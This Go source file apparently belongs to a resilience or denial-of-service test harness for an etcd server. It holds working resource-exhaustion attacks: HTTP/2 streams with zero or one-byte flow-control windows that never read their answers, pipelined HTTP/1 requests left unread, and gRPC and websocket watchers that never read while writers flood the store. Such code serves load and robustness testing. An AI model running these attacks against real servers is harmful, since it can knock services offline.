package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/sync/errgroup"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"google.golang.org/protobuf/proto"
)

const (
	// streamsEach is how many calls an attacker has at a time.
	streamsEach = 8
	// writers put at a time, since each waits for the disk.
	writers = 32
)

func marshal(m proto.Message) []byte {
	bytes, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	return message(0, uint32(len(bytes)), bytes)
}

// everything asks for all that was filled in.
func everything() []byte {
	return marshal(&pb.RangeRequest{Key: []byte("filled/"), RangeEnd: []byte("filled0")})
}

// zeroWindow asks for long answers and lets the server send nothing of them.
func zeroWindow(ctx context.Context, t *target, v volume, tally *tally) error {
	ask := everything()
	return crowd(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.KV/Range", false), true, ask)
			tally.did.Add(1)
		}
		if err := s.flush(); err != nil {
			return err
		}
		return held(ctx, s.conn)
	})
}

// oneByteWindow takes long answers a byte at a time, and one of its connections opens a window
// beyond all measure.
func oneByteWindow(ctx context.Context, t *target, v volume, tally *tally) error {
	ask := everything()
	return crowd(ctx, v, tally, func(ctx context.Context, pace *pace, n int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		s.drain()
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.KV/Range", false), true, ask)
		}
		for pace.wait(ctx, streamsEach) {
			for id := uint32(1); id < 2*streamsEach; id += 2 {
				s.framer.WriteWindowUpdate(id, 1)
			}
			if n == 0 {
				s.framer.WriteWindowUpdate(0, 1<<31-1)
			}
			if err := s.flush(); err != nil {
				return err
			}
			tally.did.Add(streamsEach)
		}
		return nil
	})
}

// unreadPages asks for pages of HTTP/1, one after the other, and reads none.
func unreadPages(ctx context.Context, t *target, v volume, tally *tally) error {
	asks := strings.Repeat("GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", 16)
	return crowd(ctx, v, tally, func(ctx context.Context, pace *pace, _ int) error {
		conn, err := t.connect(ctx, tally)
		if err != nil {
			return err
		}
		defer conn.Close()
		for pace.wait(ctx, 16) {
			if _, err := io.WriteString(conn, asks); err != nil {
				return err
			}
			tally.did.Add(16)
		}
		return nil
	})
}

// watchedPrefix has what watchers that never read would hear of.
const watchedPrefix = "watched/"

// deafWatcher watches and never reads, while others put values of 1 kB.
func deafWatcher(ctx context.Context, t *target, v volume, tally *tally) error {
	var writing sync.WaitGroup
	var writeErr error
	writing.Go(func() { writeErr = t.write(ctx, v.perSecond, tally) })
	create := marshal(&pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{
		CreateRequest: &pb.WatchCreateRequest{Key: []byte(watchedPrefix), RangeEnd: []byte("watched0")},
	}})
	err := crowd(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		// As little as possible is to hide in the buffers of the system.
		if tcp, ok := s.conn.(*net.TCPConn); ok {
			tcp.SetReadBuffer(4 * kilobyte)
		}
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.Watch/Watch", false), false, create)
		}
		if err := s.flush(); err != nil {
			return err
		}
		<-ctx.Done()
		return nil
	})
	writing.Wait()
	return errors.Join(err, writeErr)
}

// write puts values of 1 kB.
func (t *target) write(ctx context.Context, perSecond int, tally *tally) error {
	conn, err := t.grpc()
	if err != nil {
		return err
	}
	defer conn.Close()
	pace, value := newPace(perSecond), make([]byte, kilobyte)
	// What was begun is finished, also when the time is up.
	putCtx, cancel := context.WithTimeout(context.WithoutCancel(ctx), patience)
	defer cancel()
	group, groupCtx := errgroup.WithContext(putCtx)
	for writer := range writers {
		group.Go(func() error {
			for n := 0; pace.wait(ctx, 1); n++ {
				put := &pb.PutRequest{Key: fmt.Appendf(nil, "%s%d/%d", watchedPrefix, writer, n%100), Value: value}
				if _, err := pb.NewKVClient(conn).Put(groupCtx, put); err != nil {
					return err
				}
				tally.did.Add(1)
			}
			return nil
		})
	}
	return group.Wait()
}

// websockets watches through them where they are served, with more and more watchers, and reads
// nothing.
func websockets(ctx context.Context, t *target, v volume, tally *tally) error {
	create := maskedFrame([]byte(`{"create_request":{"key":"YmVoYXZlcy8=","range_end":"YmVoYXZlczA="}}`))
	return crowd(ctx, v, tally, func(ctx context.Context, pace *pace, _ int) error {
		conn, err := t.connect(ctx, tally)
		if err != nil {
			return err
		}
		defer conn.Close()
		_, err = io.WriteString(conn, "GET /v3/watch HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
		if err != nil {
			return err
		}
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return err
		}
		if answer.StatusCode != http.StatusSwitchingProtocols {
			return errors.New(answer.Status)
		}
		for pace.wait(ctx, 1) {
			if _, err := conn.Write(create); err != nil {
				return err
			}
			tally.did.Add(1)
		}
		return nil
	})
}

// maskedFrame is a text message of a client, with a mask of zeros.
func maskedFrame(text []byte) []byte {
	const textFrame, masked = 0x81, 0x80
	return append([]byte{textFrame, masked | byte(len(text)), 0, 0, 0, 0}, text...)
}
